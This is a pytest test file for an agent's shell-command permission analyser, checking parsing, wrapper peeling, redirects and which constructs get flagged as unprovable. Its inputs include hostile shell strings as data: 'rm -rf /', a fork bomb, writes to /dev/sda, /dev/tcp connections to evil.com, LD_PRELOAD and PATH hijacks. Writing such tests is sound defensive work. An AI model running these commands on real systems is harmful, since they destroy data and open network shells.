from __future__ import annotations

import subprocess
import sys

import pytest

from agent.permissions import shell_syntax
from agent.permissions.shell import analyze
from agent.permissions.shell_commands import Redirect

# -- every command is found, wrappers peeled, no problem --------------------------------

COMMANDS = [
    ("ls -l src", [(("ls", "-l", "src"), ())]),
    ("head -20 setup.cfg", [(("head", "-20", "setup.cfg"), ())]),
    ("wc -l *.py | sort -n", [(("wc", "-l", "*.py"), ()), (("sort", "-n"), ())]),
    ("git log --oneline -5", [(("git", "log", "--oneline", "-5"), ())]),
    ("cat a && rm b", [(("cat", "a"), ()), (("rm", "b"), ())]),
    ("ls; rm -rf x", [(("ls",), ()), (("rm", "-rf", "x"), ())]),
    ("ls || rm x &", [(("ls",), ()), (("rm", "x"), ())]),
    ("echo $(rm -rf x)", [(("rm", "-rf", "x"), ()), (("echo", "$(rm -rf x)"), ())]),
    ("echo `touch y`", [(("touch", "y"), ()), (("echo", "`touch y`"), ())]),
    (
        "diff <(ls a) <(rm b)",
        [(("ls", "a"), ()), (("rm", "b"), ()), (("diff", "<(ls a)", "<(rm b)"), ())],
    ),
    ("ls | tee >(rm x)", [(("ls",), ()), (("rm", "x"), ()), (("tee", ">(rm x)"), ())]),
    ("x=$(rm y)", [(("rm", "y"), ())]),
    ("echo $((1 + 2))", [(("echo", "$((1 + 2))"), ())]),
    ("if true; then touch x; fi", [(("true",), ()), (("touch", "x"), ())]),
    ("while false; do rm x; done", [(("false",), ()), (("rm", "x"), ())]),
    ('for f in *; do rm "$f"; done', [(("rm", '"$f"'), ())]),
    ("case $x in a) rm a;; *) ls;; esac", [(("rm", "a"), ()), (("ls",), ())]),
    ("{ ls; rm x; }", [(("ls",), ()), (("rm", "x"), ())]),
    ("! grep -q x f", [(("grep", "-q", "x", "f"), ())]),
    ("[ -f x ] && cat x", [(("[", "-f", "x", "]"), ()), (("cat", "x"), ())]),
    ("sudo rm -rf /", [(("rm", "-rf", "/"), ("sudo",))]),
    (
        "sudo timeout 5 env X=1 rm -rf /",
        [(("rm", "-rf", "/"), ("sudo", "timeout", "env"))],
    ),
    ("timeout 5 nice -n 5 env A=1 rm x", [(("rm", "x"), ("timeout", "nice", "env"))]),
    ("timeout -s KILL --kill-after=2 5s ls", [(("ls",), ("timeout",))]),
    ("sudo -u root -E -- rm x", [(("rm", "x"), ("sudo",))]),
    ("nice -10 nohup ionice -c 3 ls", [(("ls",), ("nice", "nohup", "ionice"))]),
    ("env -i -u HOME ls", [(("ls",), ("env",))]),
    ("env", [(("env",), ())]),
    ("command -v git", [(("command", "-v", "git"), ())]),
    ("builtin echo hi", [(("echo", "hi"), ("builtin",))]),
    ("exec 3>out", [(("exec",), ())]),
    (
        "stdbuf -oL chrt -f 10 taskset -c 0 setsid ls",
        [
            (("ls",), ("stdbuf", "chrt", "taskset", "setsid")),
        ],
    ),
    ("busybox rm x", [(("rm", "x"), ("busybox",))]),
    ("xargs rm < list", [(("rm", "<xargs input>"), ("xargs",))]),
    ("xargs -0 -n 1", [(("echo", "<xargs input>"), ("xargs",))]),
    ("xargs -I{} cp {} /tmp", [(("cp", "{}", "/tmp"), ("xargs",))]),
    ("bash -c 'rm x; ls'", [(("rm", "x"), ("bash",)), (("ls",), ("bash",))]),
    ("sudo sh -ec 'cat f'", [(("cat", "f"), ("sudo", "sh"))]),
    ("watch -n 1 'ls -l'", [(("ls", "-l"), ("watch",))]),
    ("watch -x ls -l", [(("ls", "-l"), ("watch",))]),
    ("\\rm -rf 'a b' \"c\"d", [(("rm", "-rf", "a b", "cd"), ())]),
    (
        "mkdir -p src/{a,b}/{c,d}",
        [(("mkdir", "-p", "src/a/c", "src/a/d", "src/b/c", "src/b/d"), ())],
    ),
    ("touch f{1..3} '{x,y}'", [(("touch", "f1", "f2", "f3", "{x,y}"), ())]),
    ("echo > f hi", [(("echo", "hi"), ())]),
    ("cat <<EOF | sh\nrm -rf /\nEOF", [(("cat",), ()), (("sh",), ())]),
    ("cat <<EOF > out\nhi $(id)\nEOF", [(("id",), ()), (("cat",), ())]),
    ("cat <<'EOF'\n$(id)\nEOF", [(("cat",), ())]),
    ("export A=1 B", [(("export", "A=1", "B"), ())]),
    ("ls # rm -rf /", [(("ls",), ())]),
    ("echo x#y #; rm z", [(("echo", "x#y"), ())]),
    ("GIT_PAGER=cat git log", [(("git", "log"), ())]),
    ("sudo -iu root ls", [(("ls",), ("sudo",))]),
    ("[ -f ~/.ssh/id_rsa ]", [(("[", "-f", "~/.ssh/id_rsa", "]"), ())]),
    ("cat <<-'EOF'\n\tx\n\tEOF\nls", [(("cat",), ()), (("ls",), ())]),
    ("echo $'\\' ; rm -rf x ; \\''", [(("echo", "$'\\' ; rm -rf x ; \\''"), ())]),
]


@pytest.mark.parametrize(("script", "expected"), COMMANDS)
def test_every_command_is_found_with_its_wrappers(script: str, expected) -> None:
    analysis = analyze(script)
    assert [(c.argv, c.wrappers) for c in analysis.commands] == expected
    assert analysis.problems == ()


# -- what cannot be proven safe ---------------------------------------------------------

PROBLEMS = [
    ("ls (", ("cannot be parsed",)),
    ("x" * 10_001, ("is longer than 10000 characters",)),
    ("$X -rf /", ("runs a program whose name is known only at run time",)),
    ("$(echo rm) -rf x", ("runs a program whose name is known only at run time",)),
    ('"${X}" a', ("runs a program whose name is known only at run time",)),
    ("$'\\x72m' -rf x", ("uses $'...' quoting in the command name",)),
    ("r* -rf x", ("expands a pattern into the command name",)),
    ("r{m,} x", ("expands a pattern into the command name",)),
    ("{rm,-rf,x}", ("cannot be parsed",)),
    ('eval "rm -rf ~"', ("eval runs a string as code",)),
    ("source ./env.sh", ("source runs a script file in this shell",)),
    (". ./env.sh", (". runs a script file in this shell",)),
    ('bash -c "$CMD"', ("bash runs a command string known only at run time",)),
    ("zsh -c 'ls'", ("zsh -c runs code in a syntax that cannot be checked",)),
    ("bash -ic 'ls'", ("bash -i cannot be checked",)),
    ("python3 -c 'print(1)'", ("python3 runs inline code",)),
    ("perl -ne 'print' f", ("perl runs inline code",)),
    ("node -e 'x'", ("node runs inline code",)),
    ("python3 <<EOF\nprint(1)\nEOF", ("feeds code to python3 on standard input",)),
    ("bash <<< 'rm x'", ("feeds code to bash on standard input",)),
    ("ls${IFS}-la", ("uses $IFS", "runs a program whose name is known only at run time")),
    ("IFS=/ read a", ("sets IFS",)),
    ("ls\\\n-la", ("uses a line continuation (backslash-newline)", "has text the parser skipped")),
    ("ls\u00a0-la", ("contains invisible or unusual whitespace (U+00A0)",)),
    ("ls\u200b -la", ("contains invisible or unusual whitespace (U+200B)",)),
    ("ls\u3000-la", ("contains invisible or unusual whitespace (U+3000)",)),
    ("ls\r\nrm x", ("contains a control character (U+000D)", "has text the parser skipped")),
    ("ls \x1b[2K", ("contains a control character (U+001B)",)),
    ("rm \\ -rf x", ("has text the parser skipped",)),
    ("echo hi > $F", ("redirects to a path known only at run time ($F)",)),
    ('cat < "$IN"', ('redirects to a path known only at run time ("$IN")',)),
    ("f() { rm -rf x; }; f", ("defines a function (f)",)),
    ("function g { ls; }", ("defines a function (g)",)),
    (":(){ :|:& };:", ("defines a function (:)", "function : calls itself (a fork bomb?)")),
    ("PATH=/tmp ls", ("sets PATH",)),
    ("LD_PRELOAD=x.so ls", ("sets LD_PRELOAD",)),
    ("GIT_SSH_COMMAND=x git fetch", ("sets GIT_SSH_COMMAND",)),
    ("GIT_CONFIG_COUNT=1 git log", ("sets GIT_CONFIG_COUNT",)),
    ("PAGER=evil git log", ("sets PAGER",)),
    ("BASH_ENV=x bash -c ls", ("sets BASH_ENV",)),
    ("RIPGREP_CONFIG_PATH=x rg a", ("sets RIPGREP_CONFIG_PATH",)),
    ("env LD_LIBRARY_PATH=. ls", ("env sets LD_LIBRARY_PATH",)),
    ("export PATH=/tmp:$PATH; ls", ("sets PATH",)),
    ("read PATH", ("read sets PATH",)),
    ("printf -v HOME x", ("printf sets HOME",)),
    ("for PATH in /tmp; do ls; done", ("loops over PATH, changing it",)),
    ("env -S 'rm x'", ("env -S cannot be checked",)),
    ("sudo -e /etc/hosts", ("sudo -e cannot be checked",)),
    ("timeout $T rm x", ("timeout has an argument known only at run time",)),
    ("echo $((x + 1))", ("evaluates arithmetic on variables, which can run code",)),
    ("((i++))", ("evaluates arithmetic on variables, which can run code",)),
    ("let x=1", ("let evaluates arithmetic, which can run code",)),
    ("[[ $x -eq 1 ]]", ("[[ -eq ]] evaluates variables as arithmetic",)),
    ("echo ${!name}", ("uses indirect expansion ${!...}",)),
    ("echo ${x@P}", ("uses a ${...@...} transformation",)),
    ("echo ${a[i]}", ("uses an array subscript, which is evaluated as arithmetic",)),
    ("declare -n ref=x", ("declare -n can run code on assignment",)),
    ("trap 'rm -rf x' EXIT", ("trap runs a command later",)),
    ("hash -p /tmp/evil ls", ("hash changes which code later commands run",)),
    ("set -k", ("set -k changes how later commands run",)),
    ("shopt -s expand_aliases", ("shopt changes how the shell reads later commands",)),
    ("rm .*", ("pattern .* may match '..'",)),
    ("ls @(a|b)", ("cannot be parsed",)),
    (
        "python3 - <<EOF\nx\nEOF",
        ("has text the parser skipped", "feeds code to python3 on standard input"),
    ),
    ("exec 3<>/dev/tcp/evil.com/80", ("cannot be parsed",)),
    ('bash -c "bash -c \'bash -c \\"bash -c ls\\"\'"', ("nests shells too deeply",)),
    ("cat <<EOF\nEOF \nrm -rf hidden\nEOF", ("has a heredoc whose end is ambiguous",)),
    (
        'cat <<"E"OF\nhi\nEOF\nrm -rf x',
        ("cannot be parsed", "has a heredoc whose end is ambiguous"),
    ),
    ("GIT_PAGER=less git log", ("sets GIT_PAGER",)),
    ("PYTEST_ADDOPTS='-p evil' pytest", ("sets PYTEST_ADDOPTS",)),
    ("sudo -R /mnt ls", ("sudo -R cannot be checked",)),
    ("unset 'a[$(id)]'", ("unset evaluates an array subscript, which can run code",)),
]


@pytest.mark.parametrize(("script", "problems"), PROBLEMS)
def test_what_cannot_be_proven_safe_is_a_problem(script: str, problems: tuple[str, ...]) -> None:
    assert analyze(script).problems == problems


def test_too_many_commands_is_a_problem() -> None:
    assert analyze("true;" * 201).problems == ("has more than 200 commands",)


def test_deep_nesting_is_a_problem_not_a_crash() -> None:
    assert "is nested too deeply" in analyze("$(" * 3000 + "ls" + ")" * 3000).problems


def test_a_20000_character_command_is_not_parsed() -> None:
    analysis = analyze("echo " + "a" * 20_000)
    assert (analysis.commands, analysis.problems) == ((), ("is longer than 10000 characters",))


# -- redirections -----------------------------------------------------------------------

REDIRECTS = [
    ("echo hi > f", [Redirect(">", "f", True)]),
    ("echo hi >| f", [Redirect(">|", "f", True)]),
    ("echo hi >> 'my log'", [Redirect(">>", "my log", True)]),
    ("ls &> out", [Redirect("&>", "out", True)]),
    ("ls >& out", [Redirect(">&", "out", True)]),
    (
        "ls 2>&1 >/dev/null 2>&-",
        [
            Redirect(">&", "1", False),
            Redirect(">", "/dev/null", False),
            Redirect(">&-", "", False),
        ],
    ),
    ("cat < in", [Redirect("<", "in", False)]),
    ("cat < /dev/tcp/evil.com/80", [Redirect("<", "/dev/tcp/evil.com/80", False)]),
    ("cat > /dev/sda", [Redirect(">", "/dev/sda", True)]),
    ('cat <<< "$x"', [Redirect("<<<", '"$x"', False, True)]),
    ("cat <<'EOF' > out\nhi\nEOF", [Redirect("<<", "EOF", False), Redirect(">", "out", True)]),
    ("echo x > $F", [Redirect(">", "$F", True, True)]),
    ("flock /tmp/l ls", [Redirect("flock", "/tmp/l", True)]),
]


@pytest.mark.parametrize(("script", "redirects"), REDIRECTS)
def test_redirects_say_what_they_write(script: str, redirects: list[Redirect]) -> None:
    assert list(analyze(script).commands[-1].redirects) == redirects


def test_redirects_of_a_group_belong_to_the_group() -> None:
    commands = analyze("{ ls; cd x; } > out").commands
    assert [(c.argv, c.redirects) for c in commands] == [
        (("ls",), ()),
        (("cd", "x"), ()),
        ((), (Redirect(">", "out", True),)),
    ]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        # tree-sitter-bash hangs these redirections on the whole list or pipeline
        (
            "cd .git && echo x >> config",
            [(("cd", ".git"), (), None), (("echo", "x"), ">>", ".git")],
        ),
        ("cd .git || echo x > f", [(("cd", ".git"), (), None), (("echo", "x"), ">", None)]),
        ("cd a && b | c > f", [(("cd", "a"), (), None), (("b",), (), "a"), (("c",), ">", "a")]),
        ("cd a && { b; } > f", [(("cd", "a"), (), None), (("b",), (), "a"), ((), ">", "a")]),
    ],
)
def test_redirects_after_a_list_belong_to_its_last_command_where_it_runs(
    script: str, expected: list
) -> None:
    commands = analyze(script).commands
    got = [(c.argv, c.redirects[0].operator if c.redirects else (), c.cwd) for c in commands]
    assert got == expected


# -- directories from cd ----------------------------------------------------------------

CWDS = [
    ("(cd /tmp && rm -rf x)", [None, "/tmp"]),
    ("(cd /tmp && rm -rf x); ls", [None, "/tmp", None]),
    ("cd src && cd ../lib && ls", [None, "src", "lib"]),
    ("cd /a && cd b && ls", [None, "/a", "/a/b"]),
    ("cd /tmp; ls", [None, "?"]),
    ("cd /tmp || ls", [None, None]),
    ('cd "$X" && ls', [None, "?"]),
    ("cd - && ls", [None, "?"]),
    ("cd && ls", [None, "~"]),
    ("cd ~ && cd .. && ls", [None, "~", "?"]),
    ("cd /tmp | ls", [None, None]),
    ("cd /tmp & ls", [None, None]),
    ("echo $(cd /tmp) && ls", [None, None, None]),
    ("env -C /etc cat passwd", ["/etc"]),
    ("for d in a b; do cd $d; ls; done", ["?", "?"]),
    ("bash -c 'cd /x && ls'", [None, "/x"]),
]


@pytest.mark.parametrize(("script", "cwds"), CWDS)
def test_literal_cd_sets_the_directory_of_later_commands(script: str, cwds: list) -> None:
    assert [c.cwd for c in analyze(script).commands] == cwds


def test_words_known_only_at_run_time_are_marked() -> None:
    (command,) = analyze('cp "$src" ~+/x plain').commands
    assert (command.argv, command.dynamic) == (("cp", '"$src"', "~+/x", "plain"), (1, 2))


def test_command_text_is_its_source_without_heredoc_bodies() -> None:
    commands = analyze("cat <<EOF > out\nbody\nEOF\nls -l").commands
    assert [c.text for c in commands] == ["cat <<EOF > out", "ls -l"]


def test_the_parser_is_built_once_and_reused_by_every_analysis() -> None:
    # What keeps a warm analysis fast; how fast is printed by benchmarks/responsiveness.py.
    analyze("ls")
    parser = shell_syntax._parser
    analyze("git status && ls -l src | wc -l")
    assert parser is not None and shell_syntax._parser is parser


def test_importing_the_analyser_does_not_load_the_parser() -> None:
    code = "import sys, agent.permissions.shell; print('tree_sitter' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"
